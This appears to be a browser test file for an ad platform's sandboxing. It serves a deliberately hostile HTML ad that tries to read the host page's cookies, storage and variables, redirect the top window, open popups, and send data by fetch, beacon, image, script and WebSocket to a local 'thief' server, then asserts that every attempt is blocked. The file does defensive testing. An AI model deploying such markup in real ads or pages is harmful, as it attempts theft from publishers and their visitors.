// An approved HTML ad that tries to break out of its frame: every way it tries is closed.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { guarded, launch, missing, startDemo, until } from './harness.mjs';
import { page as pageWith, place, startPublisher } from './publisher.mjs';

const why = missing();
if (why) console.log(`SKIP a hostile ad: ${why}`);

/** Books an HTML ad that wins every auction in the place `trap`, and approves it. */
export async function bookHostile(demo, markup) {
  const created = async (path, spec) => (await demo.api('POST', path, spec)).id;
  const now = new Date().toISOString();
  await created('/v1/placements', { site: demo.site, name: 'trap', format: { kind: 'banner', sizes: [{ width: 310, height: 260 }] } });
  const advertiser = await created('/v1/advertisers', {
    name: 'Trouble Ltd', currency: 'EUR', zone: 'Europe/Paris', funding: { kind: 'credit', limit_micros: 1_000_000_000 },
  });
  const party = await created('/v1/parties', { kind: 'organisation', advertiser, identity: { name: 'Trouble Ltd' }, established_in: 'FR' });
  const campaign = await created('/v1/campaigns', {
    advertiser, name: 'Trouble', objective: 'impressions', flight: { starts_at: now }, sponsor: party, payer: party,
  });
  const adSet = await created('/v1/ad-sets', {
    campaign, name: 'Trouble', bid: { kind: 'cpm', micros_per_mille: 90_000_000 }, tier: { kind: 'auction' }, pacing: 'asap',
  });
  const ad = await created('/v1/ads', { ad_set: adSet, name: 'Trouble', landing_url: `${demo.pages}/demo/at/tide` });
  await created('/v1/versions', { ad, creative: { kind: 'html', markup, size: { width: 310, height: 260 } } });
  await demo.api('POST', '/v1/reviews', { ads: [ad], verdict: 'approved' });
  return ad;
}

test('an ad cannot leave its frame', { skip: why ?? false }, async () => {
  const stolen = [];
  const thief = createServer((request, response) => { stolen.push(request.url); response.end('thanks'); });
  await new Promise(resolve => thief.listen(0, '127.0.0.1', resolve));
  const host = `//127.0.0.1:${thief.address().port}`;
  const [demo, browser] = await Promise.all([startDemo(), launch()]);
  // Each attempt reports what came of it to the page, which is the one thing that a frame may do.
  const markup = `<!doctype html><a id=click href="{CLICK_URL}" target=_blank>x</a><form id=f action="${host}/form" method=post></form><script>
    const tell = (name, result) => parent.postMessage({ name, result: String(result) }, '*');
    const attempt = (name, work) => { try { tell(name, work()); } catch (e) { tell(name, 'blocked: ' + e.name); } };
    attempt('parent document', () => parent.document.title);
    attempt('top location', () => { top.location = '${host}/top'; return 'set'; });
    attempt('parent variable', () => parent.secret);
    attempt('cookie', () => document.cookie);
    attempt('storage', () => localStorage.length);
    attempt('popup without a click', () => open('${host}/popup') ? 'opened' : 'blocked: null');
    attempt('dialog', () => { alert('x'); return 'blocked: ignored'; });
    attempt('form', () => { document.getElementById('f').submit(); return 'submitted'; });
    attempt('origin', () => self.origin);
    fetch('${host}/fetch').then(() => tell('fetch', 'answered'), e => tell('fetch', 'blocked: ' + e.name));
    navigator.sendBeacon('${host}/beacon', 'x');
    new Image().src = '${host}/image';
    document.head.appendChild(Object.assign(document.createElement('script'), { src: '${host}/script' }));
    document.body.appendChild(Object.assign(document.createElement('iframe'), { src: '${host}/iframe' }));
    try { new WebSocket('ws:${host}/socket'); } catch (e) {}
    parent.postMessage({ name: 'resize', result: 'done' }, '*');
  </script>`;
  await bookHostile(demo, markup);
  const publisher = await startPublisher(demo, {});
  publisher.pages['/'] = pageWith(demo, `<h1>Mine</h1><script>var secret = 'secret'; document.cookie = 'mine=1'; localStorage.setItem('mine', 1); window.told = [];
    addEventListener('message', e => told.push({ ...e.data, origin: e.origin }))</script>${place('trap')}`);
  const { context } = await guarded(browser);
  const page = await context.newPage();
  await until('the trap', async () => {
    await page.goto(publisher.origin);
    return page.locator('[data-regie-label]').waitFor({ timeout: 1_500 }).then(() => true, () => false);
  });
  const told = await until('all attempts', async () => {
    const list = await page.evaluate(() => window.told);
    return list.some(t => t.name === 'fetch') && list.some(t => t.name === 'resize') && list;
  });
  await page.waitForTimeout(1_000);
  const result = name => told.find(t => t.name === name)?.result ?? 'nothing';
  for (const name of ['parent document', 'parent variable', 'cookie', 'storage', 'popup without a click', 'fetch']) {
    assert.match(result(name), /^blocked/, `${name}: ${result(name)}`);
  }
  assert.equal(result('origin'), 'null', 'an origin of its own');
  assert.ok(told.every(t => t.origin === 'null'));
  assert.equal(page.url(), `${publisher.origin}/`, 'the page is still there');
  assert.deepEqual(stolen, [], 'nothing was sent anywhere');
  assert.equal(context.pages().length, 1, 'no window was opened');
  // The label cannot be reached or covered: it stands outside the frame, and its tree is closed.
  assert.equal(await page.evaluate(() => document.querySelector('[data-regie-label]').shadowRoot), null);
  const [label, frame] = await Promise.all([
    page.locator('[data-regie-label]').boundingBox(), page.locator('[data-regie-placement] iframe').boundingBox(),
  ]);
  assert.ok(label.y + label.height <= frame.y + 0.5 && frame.height === 260);
  // A real click still works: it opens the landing page, away from the publisher's page.
  const [landing] = await Promise.all([
    context.waitForEvent('page'), page.frameLocator('[data-regie-placement] iframe').locator('#click').click(),
  ]);
  await landing.waitForLoadState();
  assert.match(landing.url(), /\/demo\/at\/tide\?.*regie_click=/);
  await browser.close();
  await publisher.stop();
  await demo.stop();
  thief.closeAllConnections();
  thief.close();
});
